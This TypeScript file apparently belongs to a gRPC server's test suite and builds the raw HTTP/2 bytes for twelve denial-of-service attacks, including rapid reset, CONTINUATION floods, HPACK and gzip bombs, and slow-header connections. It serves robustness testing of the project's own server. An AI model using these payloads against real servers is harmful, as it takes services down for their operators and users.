// Twelve ways to hurt a gRPC server with little effort, as the bytes that an attacker writes.
import { gzipSync } from 'node:zlib';
import { CLIENT_PREFACE, FrameType, SettingId } from '../../transport/http2/frames/constants.ts';
import { prebuiltBlock } from '../../transport/http2/hpack/encoder.ts';
import { headerField } from '../../transport/http2/hpack/header-field.ts';
import {
  frameBytes,
  integerBytes,
  literalBytes,
  settingBytes,
  uint32Bytes,
} from '../fuzz/wire-bytes.ts';
import { PATHS } from './echo-backend.ts';

export interface Attack {
  readonly name: string;
  /** At the same time; each that is cut off is opened again. */
  readonly connections: number;
  /** Once per connection. */
  readonly begin: Buffer;
  /** Again and again, as fast as it is taken, or once in `everyMs`; undefined: only waits. */
  readonly more: ((round: number) => Buffer) | undefined;
  readonly everyMs?: number;
  /** Streams that the server has to reset, where it is them and not the connection that are cut. */
  readonly streams?: number;
}

const END_STREAM = 1;
const END_HEADERS = 4;
const EMPTY = Buffer.alloc(0);
/** In one write. */
const FRAMES = 500;
const CANCEL = 8;
/** Above any limit on messages here, of a byte that packs well. */
const BOMB_BYTES = 80 * 1024 * 1024;
const MESSAGE_BYTES = 80;

const SETTINGS = frameBytes(FrameType.SETTINGS, 0, 0, EMPTY);
const OPENING = Buffer.concat([
  CLIENT_PREFACE,
  SETTINGS,
  frameBytes(FrameType.SETTINGS, 1, 0, EMPTY),
]);

function block(path: string, ...more: readonly (readonly [string, string])[]): Buffer {
  const fields = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'host'],
    ['te', 'trailers'],
    ['content-type', 'application/grpc'],
    ...more,
  ] as const;
  return Buffer.from(prebuiltBlock(fields.map(([name, value]) => headerField(name, value))));
}

function request(id: number, path: string, ...more: readonly (readonly [string, string])[]) {
  return frameBytes(FrameType.HEADERS, END_HEADERS, id, block(path, ...more));
}

/** A message with its prefix, cut into frames, the last of which ends the stream. */
function content(id: number, message: Buffer, isCompressed = false): Buffer {
  const prefix = Buffer.from([isCompressed ? 1 : 0, 0, 0, 0, 0]);
  prefix.writeUInt32BE(message.length, 1);
  const bytes = Buffer.concat([prefix, message]);
  const frames: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += 16_384) {
    const end = Math.min(at + 16_384, bytes.length);
    const flags = end === bytes.length ? END_STREAM : 0;
    frames.push(frameBytes(FrameType.DATA, flags, id, bytes.subarray(at, end)));
  }
  return Buffer.concat(frames);
}

const repeated = (frame: Buffer, times = FRAMES): Buffer =>
  Buffer.concat(new Array<Buffer>(times).fill(frame));

/** The frames of so many streams, of new ids each round. */
function streams(round: number, times: number, of: (id: number) => Buffer): Buffer {
  const first = round * times * 2 + 1;
  return Buffer.concat(Array.from({ length: times }, (_, at) => of(first + at * 2)));
}

/** Puts an entry as large as the table into it, then names it as often as a frame holds. */
function hpackBomb(id: number): Buffer {
  const entry = Buffer.concat([
    integerBytes(0x40, 0x3f, 0),
    literalBytes('x-bomb', false),
    literalBytes('b'.repeat(4_000), false),
  ]);
  const named = repeated(integerBytes(0x80, 0x7f, 62), 12_000);
  const bytes = Buffer.concat([block(PATHS.unary), entry, named]);
  return frameBytes(FrameType.HEADERS, END_HEADERS | END_STREAM, id, bytes.subarray(0, 16_384));
}

/** @param bomb packed once: it costs an attacker nothing. */
function gzipBombs(bomb: Buffer): (round: number) => Buffer {
  return (round) =>
    streams(round, 1, (id) =>
      Buffer.concat([request(id, PATHS.unary, ['grpc-encoding', 'gzip']), content(id, bomb, true)]),
    );
}

export function attacks(): readonly Attack[] {
  const base = { connections: 2, begin: OPENING };
  const opened = Buffer.concat([OPENING, request(1, PATHS.stream)]);
  const update = frameBytes(FrameType.WINDOW_UPDATE, 0, 0, uint32Bytes(0x7fffffff));
  const noWindow = frameBytes(
    FrameType.SETTINGS,
    0,
    0,
    settingBytes(SettingId.INITIAL_WINDOW_SIZE, 0),
  );
  const stalled = streams(0, 50, (id) =>
    Buffer.concat([request(id, PATHS.large), content(id, Buffer.alloc(MESSAGE_BYTES))]),
  );
  return [
    {
      ...base,
      name: 'rapid reset',
      more: (round) =>
        streams(round, FRAMES, (id) =>
          Buffer.concat([
            request(id, PATHS.slow),
            content(id, Buffer.alloc(MESSAGE_BYTES)),
            frameBytes(FrameType.RST_STREAM, 0, id, uint32Bytes(CANCEL)),
          ]),
        ),
    },
    {
      ...base,
      name: 'CONTINUATION',
      begin: Buffer.concat([OPENING, frameBytes(FrameType.HEADERS, 0, 1, block(PATHS.unary))]),
      more: () => repeated(frameBytes(FrameType.CONTINUATION, 0, 1, EMPTY)),
    },
    { ...base, name: 'SETTINGS', more: () => repeated(SETTINGS) },
    {
      ...base,
      name: 'PING',
      more: () => repeated(frameBytes(FrameType.PING, 0, 0, Buffer.alloc(8))),
    },
    {
      ...base,
      name: 'empty DATA',
      begin: opened,
      more: () => repeated(frameBytes(FrameType.DATA, 0, 1, EMPTY)),
    },
    { ...base, name: 'window overflow', more: () => repeated(update, 10) },
    {
      ...base,
      name: 'zero window',
      begin: Buffer.concat([OPENING, noWindow, stalled]),
      more: undefined,
      streams: 50,
    },
    {
      ...base,
      name: 'slow headers',
      connections: 50,
      begin: Buffer.concat([OPENING, Buffer.from([0, 4, 0, 1, 4, 0, 0, 0, 1])]),
      more: () => Buffer.from([0x82]),
      everyMs: 20,
    },
    { ...base, name: 'HPACK bomb', more: (round) => streams(round, 10, hpackBomb) },
    { ...base, name: 'gzip bomb', more: gzipBombs(gzipSync(Buffer.alloc(BOMB_BYTES))) },
    {
      ...base,
      name: '1-byte frames',
      begin: Buffer.concat([
        opened,
        frameBytes(FrameType.DATA, 0, 1, Buffer.from([0, 2, 0, 0, 0])),
      ]),
      more: () => repeated(frameBytes(FrameType.DATA, 0, 1, Buffer.from([7]))),
    },
    { ...base, name: 'half-open', connections: 200, begin: EMPTY, more: undefined },
  ];
}
